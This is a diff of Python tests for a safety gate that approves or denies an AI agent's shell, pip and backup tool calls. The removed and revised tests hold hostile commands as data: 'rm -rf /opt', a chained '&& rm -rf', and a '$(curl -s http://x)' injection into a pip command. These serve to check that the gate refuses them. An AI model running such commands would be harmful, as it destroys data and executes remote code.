@@ -135,24 +135,6 @@ def test_forbidden_is_refused_in_every_mode_even_when_authorized(tmp_path):
         assert approver.asked == []
 
 
-def test_a_prefix_authorization_covers_whole_words_of_one_simple_command_only(tmp_path):
-    from tools.ssh_exec import SSHExec
-
-    auth = [Authorization(host="h1", command_prefix="python -m pip install")]
-    cmds = ["python -m pip install torch==2.10.0", "python -m pip install x && rm -rf /opt",
-            "python -m pip installer", "python -m pip install $(curl -s http://x)", "python -m pip uninstall -y torch"]
-    model = ScriptedModel([turn(calls=[("fake_backup", {"host": "h1"})]),
-                           turn(calls=[("ssh_exec", {"host": "h1", "command": c}) for c in cmds]), turn("ok")])
-    gate = SafetyPolicy(scope={"h1"}, authorizations=auth)
-    path = tmp_path / "t.jsonl"
-    session = Session(model=model, registry=Registry([SSHExec(), *all_fake_tools()]), gate=gate,
-                      transcript=TranscriptWriter(path))
-    session.hosts = None  # nothing may run: the allowed install would fail on a missing host, which is fine
-    run_session(session, "go")
-    verdicts = [d["verdict"] for d in decisions(iter_events(path))[1:]]
-    assert verdicts == ["allow", "deny", "deny", "deny", "deny"]
-
-
 # --------------------------------------------------------------------------- what the model cannot do
 
 
@@ -215,7 +197,7 @@ def test_plan_runs_read_only_steps_and_reports_the_rest_as_would_run(tmp_path):
     evs = run(tmp_path / "t.jsonl", [
         turn(calls=[("echo", {"text": "looking", "host": "h1"}), ("change", {"host": "h1", "what": "pip install x"})]),
         turn("planned"),
-    ], plan=True, authorizations=[Authorization(tool="change")])
+    ], plan=True, authorizations=[Authorization(tool="change", args={"what": "*"})])
     d = decisions(evs)
     assert [(x["verdict"], x["rule"]) for x in d] == [("allow", "read-only"), ("skip", "plan")]
     results = [e for e in evs if e["type"] == "tool_result"]
@@ -286,7 +268,7 @@ def test_an_interpreter_the_model_names_is_classified_like_running_it():
     # ... and a backup of such an interpreter is no longer a free backup step: it needs a backup and approval.
     gate = SafetyPolicy(scope={"h1"})
     d = gate.decide("pip_freeze_backup", backup.action(backup.parse_args({"host": "h1", "python": "sh"})))
-    assert d.verdict.value == "deny" and d.rule == "no-backup"
+    assert d.verdict.value == "deny" and d.rule == "not-authorized" and "no verified backup of h1" in d.reason
 
 
 def test_the_backup_exemption_never_covers_a_destructive_step():
@@ -294,7 +276,8 @@ def test_the_backup_exemption_never_covers_a_destructive_step():
 
     claims = Action(host="h1", subject="rm -rf /opt", risk=Risk(cls=RiskClass.DESTRUCTIVE, rule="backup",
                                                                 reason="says it is a backup"))
-    assert SafetyPolicy(scope={"h1"}).decide("some_tool", claims).rule == "no-backup"
+    d = SafetyPolicy(scope={"h1"}).decide("some_tool", claims)
+    assert d.rule == "not-authorized" and "no verified backup of h1" in d.reason
 
 
 def test_tool_authorization_values_ending_in_a_star_match_by_prefix(tmp_path):
@@ -330,6 +313,8 @@ def test_every_tool_tells_the_gate_typed_facts_an_authorization_can_match():
         "restore_backup": {"host": "h", "backup_id": "backup-h-1"},
         "install_runfile": {"host": "h", "version": "13.0", "runfile": "file:///srv/cuda_13.0.1_580.82.07_linux.run",
                             "checksum": "md5:" + "0" * 32},
+        "pip_install": {"host": "h", "index_url": "https://download.pytorch.org/whl/cu130",
+                        "packages": ["torch==2.10.0+cu130"]},
         "run_bench": {"host": "h", "command": "python -m sglang.bench_serving", "parser": "sglang_bench_serving",
                       "label": "before", "env": {"CUDA_VISIBLE_DEVICES": "0"}},
         "web_search": {"query": "cuda 13 runfile"},
@@ -341,6 +326,9 @@ def test_every_tool_tells_the_gate_typed_facts_an_authorization_can_match():
         action = tool.action(tool.parse_args(arguments))
         unknown = set(action.args) - set(tool.Args.model_fields)
         assert not unknown, f"{name} gives the gate args that are not its arguments: {unknown}"
+        assert set(action.args) == set(tool.pinned), f"{name}: its Action carries exactly its pinned arguments"
+        optional = {k for k in tool.pinned if not tool.Args.model_fields[k].is_required()}
+        assert set(action.defaults) == optional, f"{name}: every optional pinned argument has its default"
     bench = tools["run_bench"].action(tools["run_bench"].parse_args(samples["run_bench"]))
     assert bench.workload is not None and bench.workload.env == {"CUDA_VISIBLE_DEVICES": "0"}
     assert tools["inspect_host"].action(tools["inspect_host"].parse_args(samples["inspect_host"])).interpreter \
